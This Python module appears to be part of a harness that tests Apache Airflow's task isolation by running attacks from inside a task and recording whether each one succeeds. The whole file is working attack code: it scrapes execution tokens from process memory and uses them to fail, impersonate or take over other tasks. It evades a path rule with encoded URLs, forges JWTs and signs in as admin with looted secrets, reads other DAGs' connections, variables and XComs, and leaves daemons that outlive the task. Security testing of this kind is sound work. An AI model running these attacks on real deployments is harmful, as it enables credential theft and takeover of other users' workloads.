"""Attacks on Airflow's APIs with the tokens that a task can find, and through its own supervisor."""

from __future__ import annotations

import contextlib
import datetime
import os
import time
from collections.abc import Callable
from typing import Any

import httpx

from mallory_attacks import loot
from mallory_attacks.attack import BROKEN, REFUSED, SUCCEEDED, Facts, Refused, attack, record, wrecking
from mallory_attacks.broker import token_of_waiting_task

TIMEOUT_S = 20.0
DENIED = (401, 403)
REFRESHED = "Refreshed-API-Token"  # the header with the token of scope execution
AFTER_END_S = 12.0


def _token(facts: Facts) -> str:
    """Return a token of a running task: its own, or that of a task which it takes over."""
    for pid in loot.readable():
        with contextlib.suppress(OSError):
            if token := loot.tokens(pid, scope="execution").get(facts.own["id"]):
                return token
    return _taken_over(facts)[1]


_taken: list[tuple[int, str]] = []  # a task can be taken over once


def _taken_over(facts: Facts) -> tuple[int, str]:
    """Run the victim's waiting task with the token from its message; return the status and the token for it."""
    if not _taken:
        token = token_of_waiting_task(facts)
        body = {"state": "running", "hostname": "mallory", "unixname": "mallory", "pid": 1, "start_date": _now()}
        answer = _call(facts, "PATCH", f"/task-instances/{facts.victim['never']}/run", token, json=body)
        _said(answer)
        _taken.append((answer.status_code, answer.headers.get(REFRESHED, "")))
    return _taken[0]


def _call(facts: Facts, method: str, path: str, token: str, **more: Any) -> httpx.Response:
    base = os.environ.get("AIRFLOW__CORE__EXECUTION_API_SERVER_URL") or f"{facts.webserver}/execution/"
    return _request(method, f"{base.rstrip('/')}{path}", {"Authorization": f"Bearer {token}"}, **more)


def _request(method: str, url: str, headers: dict[str, str], **more: Any) -> httpx.Response:
    answer = httpx.request(method, url, headers=headers, timeout=TIMEOUT_S, trust_env=False, **more)
    if answer.status_code in DENIED:
        raise Refused(f"HTTP {answer.status_code}")
    return answer


def _said(answer: httpx.Response) -> str:
    if not answer.is_success:
        raise RuntimeError(f"neither success nor refusal: HTTP {answer.status_code}")
    return f"HTTP {answer.status_code}"


def _now() -> str:
    return datetime.datetime.now(datetime.UTC).isoformat()


@attack
def api_find_its_own_token(facts: Facts) -> str:
    """Find a token of its own, which only its supervisor needs."""
    for pid in loot.readable():
        with contextlib.suppress(OSError):
            if token := loot.tokens(pid).get(facts.own["id"]):
                return f"a token of {len(token)} characters"
    raise Refused("its own token is in no memory that it can read")


@attack
def api_state_of_another_task(facts: Facts) -> str:
    """Fail another task with its own token."""
    body = {"state": "failed", "end_date": _now()}
    return _said(_call(facts, "PATCH", f"/task-instances/{facts.victim['hold']}/state", _token(facts), json=body))


@attack
def api_heartbeat_of_another_task(facts: Facts) -> str:
    """Send another task's heartbeat with its own token."""
    body = {"hostname": "mallory", "pid": 1}
    path = f"/task-instances/{facts.victim['hold']}/heartbeat"
    return _said(_call(facts, "PUT", path, _token(facts), json=body))


@attack
def api_rendered_fields_of_another_task(facts: Facts) -> str:
    """Replace another task's rendered fields with its own token."""
    return _said(
        _call(facts, "PUT", f"/task-instances/{facts.victim['hold']}/rtif", _token(facts), json={"mallory": "1"})
    )


@attack
def api_state_store_of_another_task(facts: Facts) -> str:
    """Read what another task stored for its retries, with its own token."""
    answer = _call(facts, "GET", f"/store/ti/{facts.victim['hold']}/mallory", _token(facts))
    if answer.status_code == 404:
        raise Refused("HTTP 404")
    return _said(answer)


@attack
def api_without_a_token(facts: Facts) -> str:
    """Read a connection from the Execution API without a token."""
    return _said(_call(facts, "GET", f"/connections/{facts.victim['connection']}", "none"))


@wrecking
def api_take_over_a_waiting_task(facts: Facts) -> str:
    """Run another pool's task in its own process, with the token from the message."""
    return f"HTTP {_taken_over(facts)[0]}"


@attack
def api_execution_through_the_balancer(facts: Facts) -> str:
    """Reach the Execution API through the public listener, spelled so that a rule on paths misses it."""
    for path in ("/execution/health", "/%65xecution/health", "/execution%2Fhealth", "//execution/health"):
        answer = httpx.get(f"{facts.webserver}{path}", timeout=TIMEOUT_S, trust_env=False)
        if answer.is_success and "json" in answer.headers.get("content-type", ""):
            return f"{path}: HTTP {answer.status_code}"
    raise Refused("no spelling was answered")


@attack
def api_sign_a_token(facts: Facts) -> str:
    """Sign a token for another task."""
    import jwt

    secret = loot.best("jwt_secret", facts)
    claims = {"sub": facts.victim["hold"], "exp": time.time() + 60}
    return f"a token of {len(jwt.encode(claims, secret, algorithm='HS512'))} characters"


@attack
def api_sign_in_as_admin(facts: Facts) -> str:
    """Sign in to the UI with the administrator's password."""
    password = loot.best("admin_password", facts)
    body = {"username": "admin", "password": password}
    return _said(_request("POST", f"{facts.webserver}/auth/token", {}, json=body))


@attack
def api_ui_with_its_own_token(facts: Facts) -> str:
    """Use its own token for the public REST API."""
    headers = {"Authorization": f"Bearer {_token(facts)}"}
    return _said(_request("GET", f"{facts.webserver}/api/v2/connections", headers))


@attack
def supervisor_connection_of_another_dag(facts: Facts) -> str:
    """Ask its supervisor for a connection that another DAG uses."""
    from airflow.sdk import BaseHook

    return f"a password of {len(BaseHook.get_connection(facts.victim['connection']).password or '')} characters"


@attack
def supervisor_variable_of_another_dag(facts: Facts) -> str:
    """Ask its supervisor for a variable that another DAG uses."""
    from airflow.sdk import Variable

    return f"{len(Variable.get(facts.victim['variable']))} characters"


@attack
def supervisor_change_a_variable(facts: Facts) -> str:
    """Change a variable that another DAG uses."""
    from airflow.sdk import Variable

    Variable.set(facts.victim["variable"], Variable.get(facts.victim["variable"]))
    return "set"


@attack
def supervisor_xcom_of_another_dag(facts: Facts) -> str:
    """Read the XCom of another DAG's task."""
    from airflow.sdk.execution_time.xcom import XCom

    where = {"dag_id": "victim", "run_id": facts.victim["run_id"], "task_id": "say", "key": "return_value"}
    value = XCom.get_one(**where)
    if value is None:
        raise Refused("no value")
    return f"{len(value)} characters"


@attack
def supervisor_change_an_xcom_of_another_dag(facts: Facts) -> str:
    """Write an XCom in the name of another DAG's task."""
    from airflow.sdk.execution_time.xcom import XCom

    XCom.set(key="mallory", value="1", dag_id="victim", run_id=facts.victim["run_id"], task_id="say")
    return "set"


def _later(facts: Facts, name: str, then: Callable[[], dict[str, str]]) -> None:
    """Leave a daemon behind that records what `then` returns when the task has ended."""
    if os.fork():
        return
    os.setsid()
    for number in range(256):
        with contextlib.suppress(OSError):
            os.close(number)
    if os.fork() == 0:
        time.sleep(AFTER_END_S)
        record(facts, name, then())
    os._exit(0)


@wrecking
def process_after_the_tasks_end(facts: Facts) -> str:
    """Leave a daemon behind that outlives the task."""
    _later(facts, "process_after_the_tasks_end", lambda: {"outcome": SUCCEEDED, "evidence": "the daemon lived"})
    raise Refused("the daemon ended with the task")


@wrecking
def token_after_the_tasks_end(facts: Facts) -> str:
    """Use a token when the task that found it has ended."""
    token = _token(facts)
    _later(facts, "token_after_the_tasks_end", lambda: _after_end(facts, token))
    raise Refused("the daemon ended with the task")


def _after_end(facts: Facts, token: str) -> dict[str, str]:
    try:
        answer = _call(facts, "GET", f"/connections/{facts.victim['connection']}", token)
    except Refused as error:
        return {"outcome": REFUSED, "evidence": str(error)}
    except Exception as error:  # noqa: BLE001 - recorded
        return {"outcome": BROKEN, "evidence": type(error).__name__}
    return {"outcome": SUCCEEDED, "evidence": f"the token read a connection: {_said(answer)}"}
